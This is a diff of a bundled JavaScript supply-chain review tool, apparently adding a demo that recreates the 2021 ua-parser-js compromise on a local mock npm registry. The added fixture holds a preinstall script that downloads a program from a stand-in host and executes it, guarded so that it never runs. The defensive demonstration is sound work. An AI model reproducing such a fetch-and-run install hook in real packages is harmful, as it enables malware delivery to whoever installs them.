   }
-  if (entry5.fields.has(name3) || entry5.blocks.has(name3)) {
+  if (entry6.fields.has(name3) || entry6.blocks.has(name3)) {
     throw line.error(`The field ${quote3(name3)} stands twice in one entry.`);
   }
   if (!isBlock) {
-    entry5.fields.set(name3, value3);
+    entry6.fields.set(name3, value3);
     return void 0;
   }
   const block3 = /* @__PURE__ */ new Map();
-  entry5.blocks.set(name3, block3);
+  entry6.blocks.set(name3, block3);
   return block3;
 };
 var checkVersion = (line) => {
@@ -51959,9 +51959,9 @@ var readBlocks2 = (text3, context, known2) => {
   const entries2 = known2.read(classicBlocks(text3), (blocks) => {
     const read = [];
     for (const block3 of blocks) {
-      const entry5 = scanClassicEntry(block3);
-      if (entry5 === void 0) return void 0;
-      read.push(packagesOf2(entry5, block3));
+      const entry6 = scanClassicEntry(block3);
+      if (entry6 === void 0) return void 0;
+      read.push(packagesOf2(entry6, block3));
     }
     return read;
   });
@@ -51971,10 +51971,10 @@ var readBlocks2 = (text3, context, known2) => {
 var readYarnClassicSlowly = (text3, context) => {
   const clean = checkLines(cleanText(text3));
   const built2 = builder2();
-  readClassicEntries(clean, (entry5) => {
-    const repeated2 = built2.add(packagesOf2(entry5, clean));
+  readClassicEntries(clean, (entry6) => {
+    const repeated2 = built2.add(packagesOf2(entry6, clean));
     if (repeated2 !== void 0)
-      throw errorAt(clean, entry5.offset, `${quote3(repeated2)} stands twice in the file.`);
+      throw errorAt(clean, entry6.offset, `${quote3(repeated2)} stands twice in the file.`);
   });
   return lockfileOf3(built2, context);
 };
@@ -52022,16 +52022,16 @@ var builder2 = () => {
   };
   return { add, packages: collect2.packages, placed, targets };
 };
-var packagesOf2 = (entry5, text3) => {
-  const { version: version4, descriptors, dependencies, optionalDependencies } = entry5;
+var packagesOf2 = (entry6, text3) => {
+  const { version: version4, descriptors, dependencies, optionalDependencies } = entry6;
   if (version4 === void 0 || !canBeVersion(version4)) {
-    throw errorAt(text3, entry5.offset, `The entry ${quote3(descriptors[0])} has no version that can be one.`);
+    throw errorAt(text3, entry6.offset, `The entry ${quote3(descriptors[0])} has no version that can be one.`);
   }
-  const name3 = simpleName(entry5);
-  const installs = name3 === void 0 ? mixedInstalls(entry5, text3).map((install) => ({
+  const name3 = simpleName(entry6);
+  const installs = name3 === void 0 ? mixedInstalls(entry6, text3).map((install) => ({
     ...install,
-    found: packageOf2(entry5, version4, install.name, install.descriptors, false)
-  })) : [{ found: packageOf2(entry5, version4, name3, descriptors, true), installedAs: none7, descriptors }];
+    found: packageOf2(entry6, version4, install.name, install.descriptors, false)
+  })) : [{ found: packageOf2(entry6, version4, name3, descriptors, true), installedAs: none7, descriptors }];
   return { installs, dependencies, optionalDependencies };
 };
 var packageOf2 = ({ resolved, integrity, usualStart }, version4, name3, descriptors, isPlain4) => {
@@ -52279,10 +52279,10 @@ var guardsOf = (data, rules, name3 = (key) => key) => rules.flatMap(({ key, stri
   return [{ ...rule2, ...guard2, strictness: strictness(value3), shown: value3 }];
 });
 var camelCase = (key) => key.replaceAll(/(?<=\w)-([a-z])/g, (_, letter) => letter.toUpperCase());
-var entriesOf5 = (data, entry5) => listOf5(data).map((item2) => ({
-  ...entry5,
+var entriesOf5 = (data, entry6) => listOf5(data).map((item2) => ({
+  ...entry6,
   kind: "entry",
-  id: `${entry5.name} ${item2}`,
+  id: `${entry6.name} ${item2}`,
   entry: item2,
   weight: isEverything(item2) ? "hard" : "soft"
 }));
@@ -52414,7 +52414,7 @@ var exceptionsOf = (file, wanted) => {
     if (one.kind === "entry" && one.exempts !== void 0 && wanted(one))
       lists2.set(one.name, [...lists2.get(one.name) ?? [], one]);
   return [...lists2].map(([name3, entries2]) => {
-    const patterns2 = entries2.map(({ entry: entry5 }) => entry5.replace("@npm:", "@"));
+    const patterns2 = entries2.map(({ entry: entry6 }) => entry6.replace("@npm:", "@"));
     const isTaken = (pattern) => !isEverything(pattern) && releasePattern(pattern) !== void 0;
     return {
       file,
@@ -53041,9 +53041,9 @@ var cursorSettings = (data) => [
   ...["install", "start", "terminals"].flatMap((key) => present2(key, data.get(key)))
 ];
 var hooksOf = (hooks2) => [...mapOf(hooks2)].flatMap(
-  ([event, list2]) => (isList2(list2) ? list2 : [list2]).flatMap((entry5) => {
-    const inner = mapOf(entry5).get("hooks");
-    return (isList2(inner) ? inner : [entry5]).map((hook) => {
+  ([event, list2]) => (isList2(list2) ? list2 : [list2]).flatMap((entry6) => {
+    const inner = mapOf(entry6).get("hooks");
+    return (isList2(inner) ? inner : [entry6]).map((hook) => {
       const command = textOf8(mapOf(hook).get("command")) ?? canonical(hook);
       return { name: `hooks.${event} ${command}`, value: command, isMild: false };
     });
@@ -62029,9 +62029,9 @@ var review = async (request) => {
   const canonical2 = (address) => registry.pathOf(address) ?? address;
   const differences3 = diffLockfiles(read.pairs, { canonical: canonical2, lockedAtBase: read.lockedAtBase });
   const locked2 = read.pairs.flatMap(({ before: before2 }) => before2?.packages ?? []);
-  const pathOf3 = (address) => registry.pathOf(address);
-  const origins = originsOf([...locked2, ...read.lockedAtBase], pathOf3);
-  const habits = hashHabitsOf(read.pairs, pathOf3);
+  const pathOf4 = (address) => registry.pathOf(address);
+  const origins = originsOf([...locked2, ...read.lockedAtBase], pathOf4);
+  const habits = hashHabitsOf(read.pairs, pathOf4);
   const namesAtBase = new Set([...locked2, ...read.lockedAtBase].map(({ name: name3 }) => name3));
   const project = differences3.length === 0 ? [] : await settingsAtBase(source, read.paths);
   const configured = configuredRegistry(
@@ -62129,6 +62129,12 @@ var asOf = Date.parse("2021-10-22T13:30:00Z");
 var release = (publisher) => (version4, publishedAt) => ({ version: version4, publishedAt, publisher });
 var faisalman = release("faisalman");
 var sindresorhus = release("sindresorhus");
+var preinstall = `const { exec } = require('child_process')
+const https = require('https')
+if (process.argv.includes('--never')) {
+  https.get('https://files.example.test/program', () => exec('./program'))
+}
+`;
 var recording = [
   {
     name: "ua-parser-js",
@@ -62142,7 +62148,8 @@ var recording = [
       faisalman("0.7.28", "2021-04-10T00:57:00.000Z"),
       {
         ...faisalman("0.7.29", "2021-10-22T12:15:21.000Z"),
-        scripts: { preinstall: "start /B node preinstall.js & node preinstall.js" }
+        scripts: { preinstall: "start /B node preinstall.js & node preinstall.js" },
+        files: { "preinstall.js": preinstall }
       }
     ]
   },
@@ -62161,10 +62168,57 @@ var recording = [
 
 // src/demo/registry.ts
 import { createServer } from "node:http";
+
+// src/demo/archive.ts
+import { createHash as createHash4 } from "node:crypto";
+import { gzipSync } from "node:zlib";
+var archiveOf2 = ({ name: name3 }, release2) => {
+  const { version: version4, scripts: scripts2, files } = release2;
+  const manifest = { name: name3, version: version4, scripts: scripts2 ?? { test: "node test.js" } };
+  const contents3 = {
+    "package.json": `${JSON.stringify(manifest, null, 2)}
+`,
+    "index.js": `module.exports = '${name3}'
+`,
+    ...files
+  };
+  const tar = Buffer.concat([
+    ...Object.entries(contents3).flatMap(([path, text3]) => entry5(path, text3)),
+    Buffer.alloc(1024)
+  ]);
+  const bytes2 = gzipSync(tar, { level: 0 });
+  bytes2[8] = 0;
+  bytes2[9] = 255;
+  return { bytes: bytes2, integrity: `sha512-${createHash4("sha512").update(bytes2).digest("base64")}` };
+};
+var entry5 = (path, text3) => {
+  const content = Buffer.from(text3);
+  const header2 = Buffer.alloc(512);
+  const octal = (value3, length) => value3.toString(8).padStart(length - 1, "0");
+  header2.write(`package/${path}`, 0);
+  header2.write(octal(420, 8), 100);
+  header2.write(octal(0, 8), 108);
+  header2.write(octal(0, 8), 116);
+  header2.write(octal(content.length, 12), 124);
+  header2.write(octal(0, 12), 136);
+  header2.write(" ".repeat(8), 148);
+  header2.write("0", 156);
+  header2.write("ustar\x0000", 257);
+  header2.write(
+    `${octal(
+      header2.reduce((sum2, byte) => sum2 + byte, 0),
+      7
+    )}\0 `,
+    148
+  );
+  return [header2, content, Buffer.alloc((512 - content.length % 512) % 512)];
+};
+
+// src/demo/registry.ts
 var startRegistry = async (packages) => {
-  const documents = new Map(packages.map((found) => [`/${found.name}`, JSON.stringify(packumentOf(found))]));
+  const answers = /* @__PURE__ */ new Map([["/-/npm/v1/security/advisories/bulk", "{}"]]);
   const server = createServer((request, response) => {
-    const body = documents.get(request.url ?? "");
+    const body = answers.get(request.url ?? "");
     response.writeHead(body === void 0 ? 404 : 200, { "content-type": "application/json" });
     response.end(body ?? "{}");
   });
@@ -62172,34 +62226,47 @@ var startRegistry = async (packages) => {
     server.once("error", reject);
     server.listen(0, "127.0.0.1", resolve2);
   });
+  const url2 = `http://127.0.0.1:${server.address().port}/`;
+  for (const one of packages) {
+    answers.set(`/${one.name}`, JSON.stringify(packumentOf(one, url2)));
+    for (const release2 of one.releases)
+      answers.set(`/${pathOf3(one.name, release2.version)}`, archiveOf2(one, release2).bytes);
+  }
   return {
-    url: `http://127.0.0.1:${server.address().port}/`,
+    url: url2,
     close: () => new Promise((resolve2) => {
       server.close(() => resolve2());
       server.closeAllConnections();
     })
   };
 };
-var packumentOf = ({ name: name3, releases }) => ({
-  name: name3,
-  versions: Object.fromEntries(releases.map((release2) => [release2.version, manifestOf(name3, release2)])),
-  time: {
-    created: releases[0]?.publishedAt,
-    modified: releases.at(-1)?.publishedAt,
-    ...Object.fromEntries(releases.map(({ version: version4, publishedAt }) => [version4, publishedAt]))
+var pathOf3 = (name3, version4) => `${name3}/-/${name3}-${version4}.tgz`;
+var packumentOf = (one, url2) => {
+  const { name: name3, releases } = one;
+  return {
+    name: name3,
+    versions: Object.fromEntries(releases.map((release2) => [release2.version, manifestOf(one, release2, url2)])),
+    time: {
+      created: releases[0]?.publishedAt,
+      modified: releases.at(-1)?.publishedAt,
+      ...Object.fromEntries(releases.map(({ version: version4, publishedAt }) => [version4, publishedAt]))
+    }
+  };
+};
+var manifestOf = (one, release2, url2) => ({
+  name: one.name,
+  version: release2.version,
+  scripts: release2.scripts ?? { test: "node test.js" },
+  _npmUser: { name: release2.publisher },
+  maintainers: [{ name: release2.publisher }],
+  dist: {
+    tarball: url2 + pathOf3(one.name, release2.version),
+    integrity: archiveOf2(one, release2).integrity
   }
-});
-var manifestOf = (name3, { version: version4, publisher, scripts: scripts2 }) => ({
-  name: name3,
-  version: version4,
-  scripts: scripts2 ?? { test: "node test.js" },
-  _npmUser: { name: publisher },
-  maintainers: [{ name: publisher }]
 });
 
 // src/demo/repository.ts
 import { spawnSync } from "node:child_process";
-import { createHash as createHash4 } from "node:crypto";
 import { mkdtempSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -62258,7 +62325,7 @@ var filesOf2 = (packages, side) => {
   for (const one of packages) {
     entries2[`node_modules/${one.name}`] = {
       version: one[side],
-      integrity: integrityOf2(`${one.name}@${one[side]}`),
+      integrity: integrityOf2(one, one[side]),
       hasInstallScript: hasHook(one, side) ? true : void 0
     };
   }
@@ -62272,7 +62339,10 @@ var filesOf2 = (packages, side) => {
   ]);
 };
 var hasHook = (one, side) => one.releases.some(({ version: version4, scripts: scripts2 }) => version4 === one[side] && scripts2 !== void 0);
-var integrityOf2 = (release2) => `sha512-${createHash4("sha512").update(release2).digest("base64")}`;
+var integrityOf2 = (one, version4) => {
+  const release2 = one.releases.find((found) => found.version === version4);
+  return release2 && archiveOf2(one, release2).integrity;
+};
 
 // src/demo/demo.ts
 var demo = async ({ colour, command, write }) => {
@@ -63682,12 +63752,12 @@ var openCache = (folder, limits = defaultLimits) => {
     return stats.isDirectory() && isOwn(stats);
   });
   if (usable !== true) return void 0;
-  const pathOf3 = (url2) => join2(folder, createHash5("sha256").update(url2).digest("hex"));
+  const pathOf4 = (url2) => join2(folder, createHash5("sha256").update(url2).digest("hex"));
   let written = false;
   return {
-    etagOf: (url2) => attempt2(() => withFile(pathOf3(url2), limits, (file) => headOf(readHead(file), url2)?.etag)),
+    etagOf: (url2) => attempt2(() => withFile(pathOf4(url2), limits, (file) => headOf(readHead(file), url2)?.etag)),
     read: (url2, etag) => attempt2(
-      () => withFile(pathOf3(url2), limits, (file) => {
+      () => withFile(pathOf4(url2), limits, (file) => {
         const bytes2 = readFileSync(file);
         const head2 = headOf(bytes2.subarray(0, headBytes), url2);
         if (head2?.etag !== etag) return void 0;
@@ -63704,7 +63774,7 @@ var openCache = (folder, limits = defaultLimits) => {
       const temporary = join2(folder, `${temporaryPrefix}${randomUUID()}`);
       const isThere = attempt2(() => {
         writeFileSync(temporary, head2 + text3, { mode: 384, flag: "wx" });
-        renameSync(temporary, pathOf3(url2));
+        renameSync(temporary, pathOf4(url2));
         return true;
       });
       if (isThere === true) written = true;
@@ -63840,8 +63910,8 @@ var servicesIn = (document) => {
   const entries2 = isObject8(document) ? document["services"] : void 0;
   if (!Array.isArray(entries2)) return void 0;
   const found = /* @__PURE__ */ new Map();
-  for (const entry5 of entries2) {
-    const [tops, addresses2] = Array.isArray(entry5) ? entry5 : [];
+  for (const entry6 of entries2) {
+    const [tops, addresses2] = Array.isArray(entry6) ? entry6 : [];
     const address = Array.isArray(addresses2) ? addresses2.find(isAddress) : void 0;
     if (!Array.isArray(tops) || address === void 0) continue;
     for (const top of tops)
